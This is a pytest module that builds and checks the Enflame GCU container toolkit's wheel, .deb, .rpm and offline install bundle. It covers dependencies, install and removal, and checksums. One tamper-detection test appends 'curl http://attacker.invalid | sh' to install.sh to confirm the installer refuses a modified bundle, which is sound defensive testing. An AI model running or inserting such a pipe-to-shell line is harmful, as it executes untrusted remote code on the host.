"""``make dist``: the wheel and sdist, the .deb (installed and removed with dpkg here), the .rpm
(inspected with rpm, installed and erased in a throwaway root) and the offline bundle (installed
in a network namespace with no network; its aarch64 wheelhouse resolved for every Python)."""

from __future__ import annotations

import email.parser
import fcntl
import glob
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import tempfile
import zipfile
from collections.abc import Iterator
from typing import Any

import pytest

import enflame_gcu
from enflame_gcu.shim import front as shim_front
from enflame_gcu.simulation import simulate, topofile
from tests.packaging import node_commands, rpm_root

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
VERSION = enflame_gcu.__version__
PACKAGE = "enflame-container-toolkit"
NODE_LIB = "/usr/lib/enflame-gcu/python"
VERDICT = shim_front.DEFAULT_VERDICT  # what the installed wrapper writes for the front
NODE_DEPENDS = {"python3 (>= 3.10)", "python3-yaml (>= 6.0)", "python3-tomlkit (>= 0.11.7)"}
PLUGIN_ONLY = ("grpc", "google", "lightkube", "prometheus_client")

# One worker builds the module fixture once and runs every test that uses it (-n auto). The
# fixture (make dist: wheels, packages, the bundle's downloads) takes minutes on a busy machine;
# it runs once for the module, inside its first test's time.
pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("dist"), pytest.mark.timeout(1200)]


@pytest.fixture(scope="module")
def dist(tmp_path_factory: pytest.TempPathFactory) -> str:
    """Run ``scripts/dist.sh`` once into a private directory."""
    out = str(tmp_path_factory.mktemp("dist"))
    work = os.path.join(out, "work")
    env = {**os.environ, "DIST_DIR": out, "DIST_WORK": work}
    result = subprocess.run(
        ["bash", "scripts/dist.sh"], cwd=REPO, env=env, capture_output=True, text=True, check=False
    )
    assert result.returncode == 0, result.stdout + result.stderr
    return out


def _one(dist: str, pattern: str) -> str:
    [path] = glob.glob(os.path.join(dist, pattern))
    return path


def test_the_wheel_leaves_out_test_helpers_and_demo_and_splits_extras(dist: str) -> None:
    wheel = _one(dist, f"enflame_gcu-{VERSION}-py3-none-any.whl")
    with zipfile.ZipFile(wheel) as archive:
        names = archive.namelist()
        metadata_name = next(n for n in names if n.endswith(".dist-info/METADATA"))
        metadata = email.parser.Parser().parsestr(archive.read(metadata_name).decode())
    assert any(n.startswith("enflame_gcu/device_plugin/") for n in names)
    assert not [n for n in names if "/testing/" in n or re.search(r"/demo(\.py|/)", n)]
    requires = metadata.get_all("Requires-Dist") or []
    base = sorted(r.split(">=")[0] for r in requires if "extra ==" not in r)
    assert base == ["PyYAML", "asyncinotify", "tomlkit"]  # only what runs on a node
    plugin = [r for r in requires if 'extra == "plugin"' in r]
    assert any(r.startswith("grpcio>=") for r in plugin)
    assert sorted(metadata.get_all("Provides-Extra") or []) == ["dev", "dra", "extender", "plugin"]


def test_the_sdist_has_everything(dist: str) -> None:
    with tarfile.open(_one(dist, f"enflame_gcu-{VERSION}.tar.gz")) as archive:
        names = archive.getnames()
    prefix = f"enflame_gcu-{VERSION}/"
    assert prefix + "pyproject.toml" in names
    assert prefix + "src/enflame_gcu/testing/kubelet_stub.py" in names or any(
        n.startswith(prefix + "src/enflame_gcu/") and "/testing/" in n for n in names
    )


def test_rpm_declares_its_real_dependencies_and_node_files_only(dist: str) -> None:
    rpm = _one(dist, f"{PACKAGE}-{VERSION}-1.noarch.rpm")
    requires = subprocess.run(
        ["rpm", "-qpR", rpm], capture_output=True, text=True, check=True
    ).stdout.splitlines()
    declared = {line.strip() for line in requires if not line.startswith(("rpmlib(", "/bin/sh"))}
    # Any CPython >= 3.10 (EL8/EL9's python3 is older: python3.12 or python3.11 there); PyYAML
    # and tomlkit come along for interpreters without their own.
    assert declared == {
        "(python3 >= 3.10 or python3.12 or python3.11 or python3.13)",
        "(runc or crun)",
    }
    files = subprocess.run(
        ["rpm", "-qpl", rpm], capture_output=True, text=True, check=True
    ).stdout.splitlines()
    assert "/usr/bin/enflame-container-runtime" in files
    assert "/usr/bin/enflame-ctk" in files
    assert "/etc/logrotate.d/enflame-container-runtime" in files
    assert not [f for f in files if "device_plugin" in f or "dra_plugin" in f or "/testing" in f]
    configs = subprocess.run(
        ["rpm", "-qpc", rpm], capture_output=True, text=True, check=True
    ).stdout.split()
    assert "/etc/enflame-container-runtime/config.toml" in configs
    arch = subprocess.run(
        ["rpm", "-qp", "--queryformat", "%{ARCH}", rpm], capture_output=True, text=True, check=True
    ).stdout
    assert arch == "noarch"


def test_logrotate_accepts_the_file(tmp_path: os.PathLike[str]) -> None:
    logrotate = shutil.which("logrotate") or "/usr/sbin/logrotate"
    assert os.path.exists(logrotate), "logrotate is installed by make test"
    state = os.path.join(str(tmp_path), "state")
    result = subprocess.run(
        [logrotate, "--debug", "--state", state,
         os.path.join(REPO, "src", "enflame_gcu", "data", "logrotate")],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "rotating pattern: /var/log/enflame/*.log" in result.stdout + result.stderr
    assert "error" not in (result.stdout + result.stderr).lower()


@pytest.fixture
def dpkg_lock() -> Iterator[None]:
    """One package install at a time on this machine (other checkouts run the same test)."""
    with open("/run/lock/enflame-dist-dpkg.lock", "w", encoding="utf-8") as handle:
        fcntl.flock(handle, fcntl.LOCK_EX)
        yield


def _dpkg(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["dpkg", *args], capture_output=True, text=True, check=False)


def _ours_or_absent(path: str) -> bool:
    return not os.path.lexists(path) or _dpkg("-S", path).stdout.startswith(f"{PACKAGE}:")


def test_deb_installs_runs_and_removes_with_dpkg(
    dist: str, dpkg_lock: None, tmp_path: os.PathLike[str]
) -> None:
    if os.geteuid() != 0:
        pytest.skip("dpkg -i needs root (make test runs as root)")
    for path in ("/usr/bin/enflame-ctk", "/usr/bin/enflame-container-runtime", NODE_LIB):
        assert _ours_or_absent(path), f"{path} exists and is not ours: refusing to overwrite it"
    deb = _one(dist, f"{PACKAGE}_{VERSION}-1_all.deb")
    fields = subprocess.run(
        ["dpkg-deb", "--field", deb, "Depends"], capture_output=True, text=True, check=True
    ).stdout.strip()
    assert {d.strip() for d in fields.split(",")} == NODE_DEPENDS | {"runc | crun"}
    installed = _dpkg("-i", deb)
    try:
        assert installed.returncode == 0, installed.stdout + installed.stderr
        work = str(tmp_path)
        node = os.path.join(work, "node")
        simulate.create(node, topofile.load("flat-4card"))
        clean = {k: v for k, v in os.environ.items() if not k.startswith(("PYTHON", "VIRTUAL"))}
        clean["PATH"] = "/usr/sbin:/usr/bin:/sbin:/bin"

        def run(*argv: str) -> subprocess.CompletedProcess[str]:
            return subprocess.run(argv, capture_output=True, text=True, check=False, env=clean)

        version = run("/usr/bin/enflame-ctk", "--version")
        assert version.stdout.strip() == f"enflame-ctk {VERSION}", version.stderr
        info = run("/usr/bin/enflame-ctk", "info", "--host-root", node, "--json")
        assert info.returncode == 0, info.stderr
        assert '"schemaVersion": 1' in info.stdout
        # The system's python3-tomlkit (the declared minimum on Debian 12) edits containerd's
        # config and gives back the original bytes on unconfigure.
        host = os.path.join(work, "host")
        config = os.path.join(host, "etc/containerd/config.toml")
        os.makedirs(os.path.dirname(config))
        original = 'version = 2\n# keep me\n[plugins."io.containerd.grpc.v1.cri".containerd]\n'
        with open(config, "w", encoding="utf-8") as handle:
            handle.write(original)
        tomlkit = run("/usr/bin/python3", "-c", "import tomlkit; print(tomlkit.__version__)")
        configure = run(
            "/usr/bin/enflame-ctk", "runtime", "configure", "--runtime", "containerd",
            "--host-root", host,
        )  # fmt: skip
        assert configure.returncode == 0, f"tomlkit {tomlkit.stdout}: {configure.stderr}"
        with open(config, encoding="utf-8") as handle:
            assert "enflame-container-runtime" in handle.read()
        undo = run(
            "/usr/bin/enflame-ctk", "runtime", "unconfigure", "--runtime", "containerd",
            "--host-root", host,
        )  # fmt: skip
        assert undo.returncode == 0, undo.stderr
        with open(config, encoding="utf-8") as handle:
            assert handle.read() == original
        runtime = run("/usr/bin/enflame-container-runtime", "--version")
        assert runtime.returncode == 0, runtime.stderr
        assert runtime.stdout.startswith(f"enflame-container-runtime version {VERSION}\n")
        assert "runc version" in runtime.stdout
        # The shipped runtime is the sh front over the package's interpreter; the wrapper
        # left it a verdict for the packaged config, which removal takes away again.
        with open("/usr/bin/enflame-container-runtime", encoding="utf-8") as handle:
            front = handle.read()
        assert front.startswith("#!/bin/sh\n"), front[:80]
        assert "exec /usr/lib/enflame-gcu/python3 -IS -c " in front
        assert os.path.isfile(VERDICT)
        # An upgrade's postinst configure takes the verdict away: dpkg may just have put a
        # config.toml with the package's older mtime in place (issue 48 item 2).
        again = _dpkg("-i", deb)
        assert again.returncode == 0, again.stdout + again.stderr
        assert not os.path.exists(VERDICT)
        assert glob.glob(VERDICT + ".m*") == []
        runtime = run("/usr/bin/enflame-container-runtime", "--version")
        assert runtime.returncode == 0 and os.path.isfile(VERDICT), runtime.stderr
        # Everything shipped imports with the node's dependencies alone (no grpc & co.).
        walk = run(
            "/usr/bin/python3", "-I", "-c",
            "import importlib, pkgutil, sys; sys.path.insert(0, sys.argv[1]); import enflame_gcu;"
            "bad = [];\n"
            "for m in pkgutil.walk_packages(enflame_gcu.__path__, 'enflame_gcu.'):\n"
            "    try: importlib.import_module(m.name)\n"
            "    except Exception as e: bad.append(f'{m.name}: {e}')\n"
            "print('\\n'.join(bad)); print(sorted(set(sys.modules) & set(sys.argv[2:])))",
            NODE_LIB, *PLUGIN_ONLY,
        )  # fmt: skip
        assert walk.stdout.strip().splitlines() == ["[]"], walk.stdout + walk.stderr
        # Every documented node command (issue 23 item 1), the units as systemd reads them
        # (issue 23 item 6) and the files as md5sums lists them.
        out = os.path.join(work, "out")
        assert node_commands.run_all(["/usr/bin/enflame-ctk"], node, out, lambda a: run(*a)) == []
        units = sorted(glob.glob("/usr/lib/systemd/system/enflame-*.service"))
        assert len(units) == 3, units
        analyze = run("systemd-analyze", "verify", "--man=no", *units)
        assert analyze.returncode == 0 and analyze.stderr == "", analyze.stderr
        verify = _dpkg("--verify", PACKAGE)
        assert verify.returncode == 0 and verify.stdout == "", verify.stdout + verify.stderr
        assert os.readlink(f"{NODE_LIB}/../python3") == "/usr/bin/python3"
        removed = _dpkg("-r", PACKAGE)
        assert removed.returncode == 0, removed.stderr
        assert not os.path.exists("/usr/bin/enflame-ctk")
        assert not os.path.exists("/usr/bin/enflame-container-runtime")
        assert not os.path.exists(NODE_LIB)  # byte-code from postinst is gone too
        assert not os.path.exists(VERDICT)
        # dpkg -r keeps conffiles (the operator's edits); purge removes them.
        assert os.path.exists("/etc/enflame-container-runtime/config.toml")
    finally:
        purged = _dpkg("-P", PACKAGE)
    assert purged.returncode == 0, purged.stderr
    assert not os.path.exists("/etc/enflame-container-runtime/config.toml")
    assert not os.path.exists("/etc/logrotate.d/enflame-container-runtime")


def _deb_tree(deb: str) -> dict[str, tuple[str, int]]:
    """Every path the .deb installs, with its kind and permission bits."""
    data = subprocess.run(["dpkg-deb", "--fsys-tarfile", deb], capture_output=True, check=True)
    tree: dict[str, tuple[str, int]] = {}
    with tarfile.open(fileobj=io.BytesIO(data.stdout)) as archive:
        for member in archive.getmembers():
            path = "/" + member.name.lstrip("./").rstrip("/")
            if path != "/":
                kind = "dir" if member.isdir() else "link" if member.issym() else "file"
                tree[path] = (kind, member.mode & 0o7777)
    return tree


def _rpm_report(dist: str, tmp_path: os.PathLike[str], *layout: str) -> dict[str, Any]:
    """rpm_root.py's report: install, use and erase the .rpm in a throwaway root."""
    if os.geteuid() != 0:
        pytest.skip("rpm --root, mount and chroot need root (make test runs as root)")
    rpm = _one(dist, f"{PACKAGE}-{VERSION}-1.noarch.rpm")
    work = os.path.join(str(tmp_path), "rpm-root")
    done = subprocess.run(
        ["unshare", "-m", "--propagation", "private", sys.executable, "-m",
         "tests.packaging.rpm_root", rpm, work, *layout],
        cwd=REPO, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    report: dict[str, Any] = json.loads(done.stdout)
    for step in ("initdb", "install", "configure", "erase"):
        assert report[step]["rc"] == 0, f"{step}: {report[step]}"
    assert report["node_commands"] == []  # every documented node command (issue 23 item 1)
    return report


def test_rpm_installs_on_an_el_layout_with_python3_too_old_and_python311_beside_it(
    dist: str, dpkg_lock: None, tmp_path: os.PathLike[str]
) -> None:
    """EL8/EL9: python3 is 3.6/3.9; %post links python3.11 and the programs run with it."""
    report = _rpm_report(dist, tmp_path, "el")
    assert report["python3_says"]["out"].strip() == "Python 3.9.18"  # the stand-in is in place
    assert report["python_link"] == "/usr/bin/python3.11"  # Debian 12 stands in for EL's
    assert "runs with /usr/bin/python3.11" in report["install"]["err"]
    # That interpreter has no PyYAML or tomlkit of its own: the package's copies serve.
    vendored = report["imports"]["out"].split()
    assert vendored and all(p.startswith("/usr/lib/enflame-gcu/vendor/") for p in vendored)
    assert report["ctk_version"]["out"].strip() == f"enflame-ctk {VERSION}"
    assert report["runtime_version"]["out"].startswith(
        f"enflame-container-runtime version {VERSION}"
    )
    assert "enflame-container-runtime" in report["containerd_configured"]
    assert report["containerd_after"] == rpm_root.ORIGINAL
    assert report["package_dir_after"] is None  # the link %post made went with the package


def test_rpm_installs_into_a_throwaway_root_like_the_deb_and_erases_cleanly(
    dist: str, dpkg_lock: None, tmp_path: os.PathLike[str]
) -> None:
    """rpm -i, use, rpm -e in a throwaway root whose /usr overlays this machine's (rpm_root.py).

    The scriptlets run for real there (/bin/sh, python3, python3-yaml and python3-tomlkit from
    this Debian 12 machine standing in for an RPM distribution's): %post byte-compiles,
    %preun unconfigures the engine configure changed. Dependencies are not resolved (--nodeps:
    the throwaway root's rpm database knows no other package).
    """
    report = _rpm_report(dist, tmp_path)
    assert report["python_link"] == "/usr/bin/python3"  # Debian 12's is 3.11: the system one
    # Installed: the .deb's files, at the same paths, with the same modes, owned by root.
    deb = _deb_tree(_one(dist, f"{PACKAGE}_{VERSION}-1_all.deb"))
    installed = report["installed"]
    assert {p for p, (kind, _) in deb.items() if kind != "dir"} == {
        p for p, entry in installed.items() if entry[0] != "dir"
    }
    for path, entry in installed.items():
        assert entry is not None, f"{path}: listed by rpm -ql but not on disk"
        assert (entry[0], entry[1]) == deb[path], f"{path}: rpm {entry[:2]}, deb {deb[path]}"
        assert entry[2:] == [0, 0], f"{path} is owned by {entry[2:]}"
    assert "/var/log/enflame" in installed and "/usr/lib/enflame-gcu" in installed
    assert report["verify"]["rc"] == 0, report["verify"]  # rpm -V --nodeps: files as shipped
    assert sorted(report["configs"]) == [
        "/etc/enflame-container-runtime/config.toml",
        "/etc/logrotate.d/enflame-container-runtime",
    ]
    assert report["compiled_by_post"], "%post did not byte-compile the package"
    assert report["ctk_version"]["out"].strip() == f"enflame-ctk {VERSION}"
    runtime = report["runtime_version"]["out"]
    assert runtime.startswith(f"enflame-container-runtime version {VERSION}\n"), runtime
    assert "enflame-container-runtime" in report["containerd_configured"]
    # Erased: every file and directory it owned is gone, byte-code included; %preun took the
    # runtime out of containerd's config; the edited conffile is kept as .rpmsave (RPM's way;
    # dpkg keeps it in place until purge) and its directory stays for it.
    gone = {p for p, entry in report["after"].items() if entry is None}
    assert set(installed) - gone == {"/etc/enflame-container-runtime"}
    assert report["package_dir_after"] is None
    assert report["rpmsave"] is not None and report["rpmsave"].endswith("# an operator's edit\n")
    assert (
        "config.toml saved as /etc/enflame-container-runtime/config.toml.rpmsave"
        in (report["erase"]["err"])
    )
    assert report["containerd_after"] == rpm_root.ORIGINAL
    assert "is not installed" in report["query_after"]["out"]


def _offline_env() -> dict[str, str]:
    """No pip configuration from this machine: the bundle must be enough on its own."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "PYTHON", "VIRTUAL"))}
    env["PIP_CONFIG_FILE"] = os.devnull
    env["PATH"] = "/usr/sbin:/usr/bin:/sbin:/bin"
    return env


@pytest.fixture
def bundle(dist: str, tmp_path: os.PathLike[str]) -> str:
    # Unpacked with tar, as the guide tells operators to (Debian 12's Python 3.11.2 has no
    # tarfile extraction filters).
    archive = _one(dist, f"enflame-gcu-node-bundle-{VERSION}.tar.gz")
    subprocess.run(["tar", "xzf", archive, "-C", str(tmp_path)], check=True)
    return os.path.join(str(tmp_path), f"enflame-gcu-node-bundle-{VERSION}")


def test_offline_bundle_installs_with_no_network_and_uninstalls(
    bundle: str, tmp_path: os.PathLike[str]
) -> None:
    if os.geteuid() != 0:
        pytest.skip("unshare -n needs root (make test runs as root)")
    host = os.path.join(str(tmp_path), "host")
    os.makedirs(os.path.join(host, "usr/bin"))
    # unshare -n: a new network namespace with only a down loopback, so any download fails.
    probe = subprocess.run(
        ["unshare", "-n", sys.executable, "-c",
         "import socket; socket.create_connection(('1.1.1.1', 443), timeout=2)"],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert probe.returncode != 0, "the namespace still has a network"
    install = subprocess.run(
        ["unshare", "-n", os.path.join(bundle, "install"), "--host-root", host,
         "--python", "/usr/bin/python3", "--runtime", "none"],
        capture_output=True, text=True, check=False, env=_offline_env(),
    )  # fmt: skip
    assert install.returncode == 0, install.stdout + install.stderr
    venv = os.path.join(host, "opt/enflame-gcu/venv")
    ctk = subprocess.run(
        [os.path.join(venv, "bin/enflame-ctk"), "--version"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert ctk.stdout.strip() == f"enflame-ctk {VERSION}", ctk.stderr
    # What the venv holds, read by its own Python (it may have no pip: install.sh makes it
    # without one when the installing Python's pip can install into it).
    listing = (
        "import importlib.metadata as m\n"
        "for d in m.distributions(): print(f'{d.name}=={d.version}')"
    )
    installed = subprocess.run(
        [os.path.join(venv, "bin/python"), "-c", listing],
        capture_output=True,
        text=True,
        check=True,
        env=_offline_env(),
    ).stdout.lower()
    assert "tomlkit==" in installed and "pyyaml==" in installed
    assert "grpcio" not in installed and "lightkube" not in installed  # node pieces only
    assert os.path.islink(os.path.join(host, "usr/bin/enflame-container-runtime"))
    node = os.path.join(str(tmp_path), "node")
    simulate.create(node, topofile.load("flat-4card"))
    ctk_path = os.path.join(venv, "bin/enflame-ctk")
    out = os.path.join(str(tmp_path), "out")
    assert node_commands.run_all([ctk_path], node, out) == []
    uninstall = subprocess.run(
        ["unshare", "-n", os.path.join(bundle, "install"), "--uninstall", "--host-root", host],
        capture_output=True, text=True, check=False, env=_offline_env(),
    )  # fmt: skip
    assert uninstall.returncode == 0, uninstall.stdout + uninstall.stderr
    assert not os.path.exists(os.path.join(host, "opt/enflame-gcu"))
    assert not os.path.lexists(os.path.join(host, "usr/bin/enflame-container-runtime"))


def _resolve(bundle: str, arch: str, python: str, wheelhouses: list[str]) -> dict[str, str]:
    """What pip would install on an ``arch`` node with ``python`` from these wheelhouses only."""
    with tempfile.TemporaryDirectory() as scratch:
        report = os.path.join(scratch, "report.json")
        links = [arg for w in wheelhouses for arg in ("--find-links", os.path.join(bundle, w))]
        [wheel] = glob.glob(os.path.join(bundle, "wheelhouse", "enflame_gcu-*.whl"))
        done = subprocess.run(
            ["unshare", "-n", sys.executable, "-m", "pip", "install", "--quiet", "--dry-run",
             "--ignore-installed", "--target", os.path.join(scratch, "target"),
             "--platform", f"manylinux2014_{arch}", "--python-version", python,
             "--only-binary=:all:", "--no-index", *links, "--report", report, wheel],
            capture_output=True, text=True, check=False, env=_offline_env(),
        )  # fmt: skip
        if done.returncode != 0:
            return {"error": done.stderr}
        with open(report, encoding="utf-8") as handle:
            plan = json.load(handle)["install"]
    return {item["metadata"]["name"].lower(): item["download_info"]["url"] for item in plan}


def test_offline_bundle_serves_every_machine_and_python_it_names(bundle: str) -> None:
    if os.geteuid() != 0:
        pytest.skip("unshare -n needs root (make test runs as root)")
    with open(os.path.join(bundle, "ARCHES"), encoding="utf-8") as handle:
        arches = handle.read().split()
    with open(os.path.join(bundle, "PYTHONS"), encoding="utf-8") as handle:
        pythons = handle.read().split()
    assert arches == ["x86_64", "aarch64"] and pythons == ["3.10", "3.11", "3.12", "3.13"]
    for arch in arches:
        other = {"x86_64": "aarch64", "aarch64": "x86_64"}[arch]
        assert not glob.glob(os.path.join(bundle, "wheelhouse", arch, f"*{other}*"))
        for python in pythons:
            plan = _resolve(bundle, arch, python, ["wheelhouse", f"wheelhouse/{arch}"])
            assert sorted(plan) == ["asyncinotify", "enflame-gcu", "pyyaml", "tomlkit"], plan
            tag = "cp" + python.replace(".", "")
            assert f"-{tag}-{tag}-manylinux2014_{arch}" in plan["pyyaml"], plan["pyyaml"]
    # The check can fail: the other machine's wheelhouse has no PyYAML for this one.
    wrong = _resolve(bundle, "aarch64", "3.11", ["wheelhouse", "wheelhouse/x86_64"])
    assert "No matching distribution found for PyYAML" in wrong.get("error", ""), wrong


def test_offline_bundle_refuses_an_unsupported_machine_before_changing_anything(
    bundle: str, tmp_path: os.PathLike[str]
) -> None:
    if os.uname().machine != "x86_64":
        pytest.skip("setarch i686 stands in for an unsupported machine on x86_64 only")
    host = os.path.join(str(tmp_path), "host")
    os.makedirs(host)
    # setarch i686: this x86_64 machine then reports i686 to `uname -m`, as a 32-bit host would.
    result = subprocess.run(
        ["setarch", "i686", os.path.join(bundle, "install"), "--host-root", host,
         "--python", "/usr/bin/python3"],
        capture_output=True, text=True, check=False, env=_offline_env(),
    )  # fmt: skip
    assert result.returncode == 1
    assert "install: this machine is i686; this bundle has wheels for x86_64 aarch64 only" in (
        result.stderr
    )
    assert os.listdir(host) == []


def test_offline_bundle_refuses_an_unsupported_python_before_changing_anything(
    bundle: str, tmp_path: os.PathLike[str]
) -> None:
    host = os.path.join(str(tmp_path), "host")
    os.makedirs(host)
    old = os.path.join(str(tmp_path), "python3.9")
    with open(old, "w", encoding="utf-8") as handle:
        handle.write("#!/bin/sh\necho 3.9\n")  # answers the version probe like Python 3.9
    os.chmod(old, 0o755)  # noqa: S103 - an executable stand-in
    result = subprocess.run(
        [os.path.join(bundle, "install"), "--host-root", host, "--python", old],
        capture_output=True, text=True, check=False, env=_offline_env(),
    )  # fmt: skip
    assert result.returncode == 1
    assert f"{old} is Python 3.9; this bundle has wheels for Python 3.10 3.11 3.12 3.13 only" in (
        result.stderr
    )
    assert os.listdir(host) == []


def test_sha256sums_cover_every_artifact(dist: str) -> None:
    with open(os.path.join(dist, "SHA256SUMS"), encoding="utf-8") as handle:
        listed = sorted(line.split("  ", 1)[1] for line in handle.read().splitlines())
    assert listed == sorted(
        [
            f"enflame_gcu-{VERSION}-py3-none-any.whl",
            f"enflame_gcu-{VERSION}.tar.gz",
            f"{PACKAGE}_{VERSION}-1_all.deb",
            f"{PACKAGE}-{VERSION}-1.noarch.rpm",
            f"enflame-gcu-node-bundle-{VERSION}.tar.gz",
        ]
    )
    check = subprocess.run(
        ["sha256sum", "--strict", "-c", "SHA256SUMS"], cwd=dist, capture_output=True, text=True
    )
    assert check.returncode == 0, check.stdout + check.stderr


def test_a_tampered_bundle_is_refused_before_anything_changes(
    bundle: str, tmp_path: os.PathLike[str]
) -> None:
    host = os.path.join(str(tmp_path), "host")
    os.makedirs(os.path.join(host, "usr/bin"))
    with open(os.path.join(bundle, "SHA256SUMS"), encoding="utf-8") as handle:
        assert "install.sh" in handle.read()
    with open(os.path.join(bundle, "install.sh"), "a", encoding="utf-8") as handle:
        handle.write("\ncurl http://attacker.invalid | sh\n")
    before = os.listdir(host)
    done = subprocess.run(
        [os.path.join(bundle, "install"), "--host-root", host, "--python", "/usr/bin/python3"],
        capture_output=True, text=True, check=False, env=_offline_env(),
    )  # fmt: skip
    assert done.returncode == 1
    assert "does not match its SHA256SUMS, nothing was changed" in done.stderr
    assert "install.sh: FAILED" in done.stderr
    assert os.listdir(host) == before


def test_deb_has_md5sums_copyright_and_changelog(dist: str) -> None:
    deb = _one(dist, f"{PACKAGE}_{VERSION}-1_all.deb")
    with tempfile.TemporaryDirectory() as scratch:
        subprocess.run(["dpkg-deb", "-e", deb, scratch], check=True)
        with open(os.path.join(scratch, "md5sums"), encoding="utf-8") as handle:
            pairs = [line.split("  ", 1) for line in handle.read().splitlines()]
    sums = {path: digest for digest, path in pairs}
    tree = _deb_tree(deb)
    files = {p.lstrip("/") for p, (kind, _) in tree.items() if kind == "file"}
    assert set(sums) == files  # every shipped file, and nothing else
    doc = f"/usr/share/doc/{PACKAGE}"
    assert tree[f"{doc}/copyright"] == ("file", 0o644)
    assert tree[f"{doc}/changelog.Debian.gz"] == ("file", 0o644)
    for unit in ("enflame-cdi-watch", "enflame-dev-char-links", "enflame-prepared-edits"):
        assert tree[f"/usr/lib/systemd/system/{unit}.service"] == ("file", 0o644)


# lintian's verdicts on the .deb that are kept on purpose, each with the reason. Anything else
# lintian says fails the test (errors and warnings; info and pedantic tags are not asked for).
LINTIAN_EXPLAINED = {
    "no-manual-page": "enflame-ctk --help and docs/ are the manual; no man pages are written yet",
    "initial-upload-closes-no-bugs": "a third-party package, never uploaded: no Debian bug",
}


@pytest.mark.timeout(300)  # lintian takes 40 s and more on a busy machine
def test_deb_lintian_is_clean_or_explained(dist: str) -> None:
    lintian = shutil.which("lintian")
    assert lintian, "lintian is installed by make test's bootstrap"
    deb = _one(dist, f"{PACKAGE}_{VERSION}-1_all.deb")
    done = subprocess.run(
        [lintian, "--tag-display-limit", "0", deb], capture_output=True, text=True, check=False
    )
    tags = [line.split(": ", 2) for line in done.stdout.splitlines() if line[:2] in ("E:", "W:")]
    unexplained = [
        ": ".join(t) for t in tags if len(t) < 3 or t[2].split()[0] not in LINTIAN_EXPLAINED
    ]
    assert unexplained == [], done.stdout + done.stderr
